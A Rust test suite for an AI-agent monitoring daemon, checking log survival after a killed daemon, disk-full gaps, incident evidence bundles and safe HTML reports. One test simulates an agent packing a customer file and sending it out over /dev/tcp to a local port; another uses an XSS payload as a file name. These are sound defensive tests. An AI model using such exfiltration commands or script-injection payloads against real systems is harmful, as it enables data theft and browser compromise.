//! Family `evidence`: a real incident, through a killed daemon, to a bundle that answers what people ask.

use std::process::Command;

use agent_monitor_tests::harness::PATIENCE;
use agent_monitor_tests::harness::actor::Actor;
use agent_monitor_tests::harness::case::{Case, Skip, Verdict};
use agent_monitor_tests::harness::lane::actor_program;
use agent_monitor_tests::harness::monitor::{Daemon, Setup};
use agent_monitor_tests::harness::registry::{Match, Record};
use agent_monitor_tests::harness::{client, world};
use agent_monitor_tests::sys::wait;
use serde_json::Value;

pub(crate) const CASES: &[Case] = &[
    Case::both("a_killed_daemon_leaves_a_log_that_holds", killed),
    Case::host("a_full_disk_is_a_counted_gap", full_disk),
    Case::host("a_hostile_name_stays_text_in_a_browser", browser),
    Case::host("an_incident_becomes_a_bundle", incident),
];

fn json(args: &[&str]) -> Value {
    let output = client::run(args);
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{args:?}: {error}: {}", client::describe(&output)))
}

fn logged(state: &str, filters: &[&str]) -> Vec<Value> {
    let output = client::run(&[&["events", "--log", state, "-o", "jsonl"], filters].concat());
    assert!(output.status.success(), "{}", client::describe(&output));
    String::from_utf8_lossy(&output.stdout).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// Waits until the log has what is asked for.
fn wait_for(state: &str, filters: &[&str], count: usize, daemon: &Daemon) {
    let there = wait::until(PATIENCE, || logged(state, filters).len() >= count);
    assert!(there, "{filters:?} is not in the log: {}\n{}", logged(state, filters).len(), daemon.output());
}

fn killed() -> Verdict {
    world::close();
    let setup = Setup::new();
    let program = setup.scratch.program(&actor_program(), "bot");
    let file = setup.scratch.file("f", "x");
    let state = setup.scratch.text("state");
    let mut daemon = setup.record(&Record::new("bot").on(Match::exe(&program))).start();
    Actor::start(&program, &["open", &file, "read"]).finish();
    wait_for(&state, &["--agent", "bot", "--path", &file], 1, &daemon);
    daemon.end_by(libc::SIGKILL);
    daemon.restart();
    Actor::start(&program, &["open", &file, "read"]).finish();
    wait_for(&state, &["--agent", "bot", "--path", &file], 2, &daemon);
    assert!(daemon.end_by(libc::SIGTERM).success(), "{}", daemon.output());
    let report = json(&["verify", &state, "-o", "json"]);
    assert_eq!((&report["ok"], &report["closed"]), (&true.into(), &true.into()), "{report:#}");
    let opened = logged(&state, &["--kind", "log.opened"]);
    let before: Vec<&Value> = opened.iter().map(|event| &event["detail"]["before"]).collect();
    assert_eq!(before, ["new", "crashed"]);
    assert!(!logged(&state, &["--kind", "gap.daemon"]).is_empty(), "the time without a daemon is declared");
    let host = logged(&state, &["--kind", "log.host"]);
    assert!(host[0]["detail"]["doctor"]["families"].as_array().is_some_and(|families| families.len() == 4));
    Ok(())
}

/// The agent reads a file of customers, packs it, and tries to send it out with a secret on its command line.
fn incident() -> Verdict {
    world::close();
    let setup = Setup::new();
    let customers = setup.scratch.file("customers.csv", "id,name\n");
    let out = setup.scratch.text("out.tgz");
    let script = setup.scratch.script(
        "courier",
        &format!(
            "#!/bin/bash\ncat {customers} >/dev/null\ntar czf {out} {customers} 2>/dev/null\n\
             /bin/true --token hunter2hunter2\nexec 3<>/dev/tcp/127.0.0.1/9\ntrue\n"
        ),
    );
    let scope = "[scope]\ndefault = \"allow\"\n[[scope.net]]\nto = \"127.0.0.1:9\"\nverdict = \"deny\"\n";
    let record = Record::new("courier").on(Match::script(&script)).scope(scope);
    let state = setup.scratch.text("state");
    let bundle = setup.scratch.text("case7");
    let mut daemon = setup.record(&record).start();
    drop(Command::new(&script).output().unwrap());
    wait_for(&state, &["--agent", "courier", "--kind", "network.connect"], 1, &daemon);
    assert!(daemon.end_by(libc::SIGTERM).success(), "{}", daemon.output());
    let made = client::run(&[
        "export",
        "--state-dir",
        &state,
        "--format",
        "bundle",
        "--agent",
        "courier",
        "--with-context",
        "5m",
        "--collect",
        "--out",
        &bundle,
    ]);
    assert!(made.status.success(), "{}", client::describe(&made));
    let report = json(&["verify", &bundle, "-o", "json"]);
    assert_eq!(report["ok"], true, "{report:#}");
    let read = |name: &str| std::fs::read_to_string(format!("{bundle}/{name}")).unwrap();
    // What did it do: read, packed, tried to send.
    let records = read("records.jsonl");
    for part in [&customers, &out, "127.0.0.1:9"] {
        assert!(records.contains(part), "{part}");
    }
    assert!(!records.contains("hunter2") && records.contains("[redacted:option:"), "the secret is not in it");
    // Who allowed it, and what could it have reached: its record at that time.
    assert!(read("agents/courier.toml").contains("127.0.0.1:9"));
    // What do we not know: what the host could see then.
    let host: Value = serde_json::from_str(&read("host.json")).unwrap();
    assert!(host["doctor"]["level"].is_string());
    let files: Value = serde_json::from_str(&read("files.json")).unwrap();
    let programs = files["programs"].as_array().unwrap();
    assert!(
        programs.iter().any(|found| found["path"].as_str().is_some_and(|p| p.ends_with("/tar"))
            && found["sha256"].is_string())
    );
    let html = read("report.html");
    for part in ["courier", "customers.csv", "scope.net[0]", "What do we not know?"] {
        assert!(html.contains(part), "{part}");
    }
    Ok(())
}

/// A full disk: a visible state, nothing waits for it, and what was missed is one counted gap.
fn full_disk() -> Verdict {
    world::close();
    let setup = Setup::new();
    let program = setup.scratch.program(&actor_program(), "bot");
    let file = setup.scratch.file("f", "x");
    let disk = Disk::mount(&setup.scratch.text("state"));
    let mut daemon = setup.record(&Record::new("bot").on(Match::exe(&program))).start();
    let state = |daemon: &Daemon| {
        daemon.cli_json(&["status", "-o", "json"])["log"]["state"].as_str().unwrap_or("").to_owned()
    };
    assert_eq!(state(&daemon), "writing");
    let filler = format!("{}/filler", disk.0);
    std::fs::write(&filler, vec![0; 8 << 20]).unwrap_err();
    let full = wait::until(PATIENCE, || {
        Actor::start(&program, &["open", &file, "read"]).finish();
        state(&daemon) == "full"
    });
    assert!(full, "{}\n{}", state(&daemon), daemon.output());
    std::fs::remove_file(&filler).unwrap();
    let writes = wait::until(PATIENCE, || {
        Actor::start(&program, &["open", &file, "read"]).finish();
        state(&daemon) == "writing"
    });
    assert!(writes, "{}", daemon.output());
    assert!(daemon.end_by(libc::SIGTERM).success(), "{}", daemon.output());
    let report = json(&["verify", &disk.0, "-o", "json"]);
    assert_eq!(report["ok"], true, "{report:#}");
    let gaps = logged(&disk.0, &["--kind", "gap.log"]);
    assert!(
        gaps.iter()
            .any(|event| event["gap"]["reason"] == "disk_full" && event["gap"]["count"].as_u64() > Some(0)),
        "{gaps:#?}"
    );
    Ok(())
}

/// A file system of four MiB, gone with this value.
struct Disk(String);

impl Disk {
    fn mount(at: &str) -> Self {
        let mounted =
            Command::new("mount").args(["-t", "tmpfs", "-o", "size=4m,mode=0700", "tmpfs", at]).status();
        assert!(mounted.is_ok_and(|status| status.success()), "cannot mount a tmpfs on {at}");
        Self(at.to_owned())
    }
}

impl Drop for Disk {
    fn drop(&mut self) {
        drop(Command::new("umount").args(["-l", &self.0]).status());
    }
}

/// In a real browser: the page's own script runs, what agents named does not, and nothing is asked of anybody.
fn browser() -> Verdict {
    let Some(chromium) = ["chromium", "chromium-browser", "google-chrome"].into_iter().find(|name| {
        Command::new(name).arg("--version").output().is_ok_and(|output| output.status.success())
    }) else {
        return Skip::because("no Chromium in the path; apt-get install chromium");
    };
    world::close();
    let setup = Setup::new();
    let program = setup.scratch.program(&actor_program(), "bot");
    let hostile = "<img src=x onerror=document.title=1>'\"<script>document.title=2</script><base href=x>"
        .replace('/', "_");
    let file = setup.scratch.file(&hostile, "x");
    let (state, page) = (setup.scratch.text("state"), setup.scratch.text("report.html"));
    let mut daemon = setup.record(&Record::new("bot").on(Match::exe(&program))).start();
    Actor::start(&program, &["open", &file, "read"]).finish();
    wait_for(&state, &["--agent", "bot", "--text", "onerror"], 1, &daemon);
    assert!(daemon.end_by(libc::SIGTERM).success(), "{}", daemon.output());
    let made =
        client::run(&["export", "--state-dir", &state, "--format", "html", "--agent", "bot", "--out", &page]);
    assert!(made.status.success(), "{}", client::describe(&made));
    let profile = daemon.setup.scratch.text("profile");
    let output = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--enable-logging=stderr",
        ])
        .args(["--virtual-time-budget=3000", "--dump-dom"])
        .arg(format!("--user-data-dir={profile}"))
        .arg(format!("file://{page}"))
        .output()
        .unwrap();
    let (dom, log) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(
        dom.contains("onerror=document.title=1") && dom.contains(" shown<"),
        "the page's script ran: {log}\n{dom}"
    );
    for bad in ["<img", "<base", "<title>1", "<title>2"] {
        assert!(!dom.contains(bad), "{bad} is in the page");
    }
    for bad in ["Content Security Policy", "Uncaught", "CONSOLE"] {
        assert!(!log.contains(bad), "{bad}: {log}");
    }
    Ok(())
}
